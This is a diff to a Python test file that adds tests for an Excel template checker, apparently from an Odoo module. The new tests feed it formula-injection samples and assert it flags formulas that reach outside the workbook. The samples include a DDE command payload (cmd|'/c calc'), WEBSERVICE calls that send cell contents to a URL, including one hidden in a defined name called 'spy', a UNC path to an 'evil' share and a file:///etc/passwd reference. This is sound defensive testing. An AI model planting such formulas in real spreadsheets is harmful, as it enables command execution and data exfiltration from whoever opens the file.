@@ -1,13 +1,16 @@
 import datetime
 import time
 
-from openpyxl.formatting.rule import CellIsRule
+from openpyxl.formatting.rule import CellIsRule, FormulaRule
 from openpyxl.styles import Font, PatternFill
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.datavalidation import DataValidation
 
 from odoo.tests import tagged
 
+from ..tools.template_xlsx import check_xlsx
 from ..tools.values import Number
-from .common import DocumentCommon, read_csv
+from .common import SCHEMA, DocumentCommon, read_csv
 
 RISKY = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "=cmd|'/c calc'!A0", " =1+1")
 
@@ -223,6 +226,54 @@ class TestExcelTemplates(DocumentCommon):
         ):
             with self.subTest(expected):
                 self.assertIn(expected, "\n".join(self._check_xlsx(cells)))
+
+    def test_formulas_that_reach_outside_however_they_are_spelled(self):
+        for formula in (
+            '=_xlfn.WEBSERVICE("http://x/"&A2)',
+            '=IF(1,_xlfn.IMAGE("http://x"),"")',
+            '=COM.MICROSOFT.WEBSERVICE("x")',
+            "=\"a\"&cmd|'/c calc'!A0",
+            "='\\\\evil\\share\\[a.xlsx]S'!A1",
+            "='file:///etc/passwd'#$S.A1",
+            "=[1]S!A1",
+        ):
+            with self.subTest(formula):
+                self.assertIn("reaches outside", "\n".join(self._check_xlsx({"A1": formula})))
+        for formula in ('="a|b://"&A2', "='a|b'!A1", "=SUM(T[a]*B!A1)", '=HYPERLINK("http://x")'):
+            with self.subTest(formula):
+                self.assertEqual(self._check_xlsx({"A1": formula}), [])
+
+    def test_formulas_behind_names_colours_and_choices(self):
+        formula = '_xlfn.WEBSERVICE("http://x/"&Quotation!$A$1)'
+
+        def name(sheet):
+            sheet.parent.defined_names["spy"] = DefinedName("spy", attr_text=formula)
+
+        def colour(sheet):
+            sheet.conditional_formatting.add("A1:A9", FormulaRule(formula=[formula]))
+
+        def choice(sheet):
+            validation = DataValidation(type="list", formula1=formula)
+            validation.add("B2")
+            sheet.add_data_validation(validation)
+
+        for edit, place in ((name, "spy"), (colour, "A1:A9"), (choice, "B2")):
+            content = self._make_xlsx({"A1": "{{ number }}"}, edit=edit)
+            [problem] = check_xlsx(content, self._sandbox(False), SCHEMA)
+            self.assertIn(place, problem.describe(self.env))
+            self.assertIn("reaches outside", problem.describe(self.env))
+
+    def test_cells_that_are_far_apart(self):
+        """Between them lie seventeen billion cells, which nobody looks at."""
+        start = time.perf_counter()
+        self.assertEqual(self._check_xlsx({"A1": "{{ number }}", "XFD20000": 1}), [])
+        far = self._check_xlsx({"A1": "{{ number }}", "XFD1048576": 1})
+        self.assertIn("something in row 1048576", far[0])
+        self.assertLess(time.perf_counter() - start, 5)
+
+    def test_what_is_no_number_is_not_written(self):
+        for text in ("{{ 1e308 * 10 }}", "{{ 1e308 * 10 - 1e308 * 10 }}"):
+            self.assertProblem("Quotation!B7", self._render_xlsx, {"B7": text})
 
     def test_a_good_template_has_no_problems(self):
         cells = {
